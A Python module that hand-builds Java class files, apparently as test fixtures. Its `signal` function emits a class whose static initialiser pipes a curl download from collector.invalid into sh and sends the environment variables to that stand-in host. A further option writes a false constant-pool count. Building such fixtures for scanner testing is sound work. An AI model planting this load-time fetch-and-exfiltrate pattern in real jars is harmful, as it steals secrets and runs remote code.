"""Java class files written by hand, so that jars need no compiler.

Layout: the Java Virtual Machine Specification, chapter 4. The methods have no branches, so no
stack map is needed.
"""

import struct

HARMLESS_NAME = "harbour/Tide"


class Pool:
    """A constant pool under construction."""

    def __init__(self) -> None:
        self.entries: list[bytes] = []
        self.index: dict[bytes, int] = {}

    def add(self, entry: bytes) -> int:
        """Return the index of an entry, adding it when it is new."""
        if entry not in self.index:
            self.entries.append(entry)
            self.index[entry] = len(self.entries)
        return self.index[entry]

    def utf8(self, text: str) -> int:
        """Add a string of characters."""
        encoded = text.encode()
        return self.add(struct.pack(">BH", 1, len(encoded)) + encoded)

    def type(self, name: str) -> int:
        """Add a class reference."""
        return self.add(struct.pack(">BH", 7, self.utf8(name)))

    def string(self, text: str) -> int:
        """Add a string constant."""
        return self.add(struct.pack(">BH", 8, self.utf8(text)))

    def method(self, owner: str, name: str, kind: str) -> int:
        """Add a method reference."""
        pair = self.add(struct.pack(">BHH", 12, self.utf8(name), self.utf8(kind)))
        return self.add(struct.pack(">BHH", 10, self.type(owner), pair))


def harmless(name: str = HARMLESS_NAME) -> bytes:
    """Return a class with one static method that adds two numbers."""
    pool = Pool()
    return assemble(pool, name, [method(pool, "add", "(II)I", b"\x1a\x1b\x60\xac")])


def signal(name: str = HARMLESS_NAME) -> bytes:
    """Return a class whose initialiser runs a download in a shell and sends the environment."""
    pool = Pool()
    code = _shell(pool, "curl -s http://collector.invalid/x.sh | sh") + _send(pool) + b"\xb1"
    return assemble(pool, name, [method(pool, "<clinit>", "()V", code)])


def method(pool: Pool, name: str, kind: str, code: bytes) -> bytes:
    """Return one public static method."""
    body = struct.pack(">HHI", 8, 4, len(code)) + code + struct.pack(">HH", 0, 0)
    attribute = struct.pack(">HI", pool.utf8("Code"), len(body)) + body
    return struct.pack(">HHHH", 9, pool.utf8(name), pool.utf8(kind), 1) + attribute


def assemble(
    pool: Pool, name: str, methods: list[bytes], *, pool_count: int | None = None
) -> bytes:
    """Return the class file; `pool_count` may lie about the constant pool."""
    this, parent = pool.type(name), pool.type("java/lang/Object")
    count = len(pool.entries) + 1 if pool_count is None else pool_count
    head = struct.pack(">IHHH", 0xCAFEBABE, 0, 52, count) + b"".join(pool.entries)
    shape = struct.pack(">HHHHHH", 0x21, this, parent, 0, 0, len(methods))
    return head + shape + b"".join(methods) + struct.pack(">H", 0)


def _shell(pool: Pool, command: str) -> bytes:
    start = pool.method("java/lang/Runtime", "getRuntime", "()Ljava/lang/Runtime;")
    run = pool.method("java/lang/Runtime", "exec", "([Ljava/lang/String;)Ljava/lang/Process;")
    code = _call(0xB8, start) + b"\x06" + _call(0xBD, pool.type("java/lang/String"))
    for number, word in enumerate(("sh", "-c", command)):
        code += b"\x59" + bytes([3 + number]) + _call(0x13, pool.string(word)) + b"\x53"
    return code + _call(0xB6, run) + b"\x57"


def _send(pool: Pool) -> bytes:
    url, text = "java/net/URL", "java/lang/String"
    build = pool.method(url, "<init>", "(Ljava/lang/String;)V")
    environment = pool.method("java/lang/System", "getenv", "()Ljava/util/Map;")
    show = pool.method("java/lang/Object", "toString", "()Ljava/lang/String;")
    join = pool.method(text, "concat", "(Ljava/lang/String;)Ljava/lang/String;")
    read = pool.method(url, "openStream", "()Ljava/io/InputStream;")
    code = _call(0xBB, pool.type(url)) + b"\x59"
    code += _call(0x13, pool.string("http://collector.invalid/in?e="))
    code += _call(0xB8, environment) + _call(0xB6, show) + _call(0xB6, join)
    return code + _call(0xB7, build) + _call(0xB6, read) + b"\x57"


def _call(opcode: int, operand: int) -> bytes:
    return struct.pack(">BH", opcode, operand)
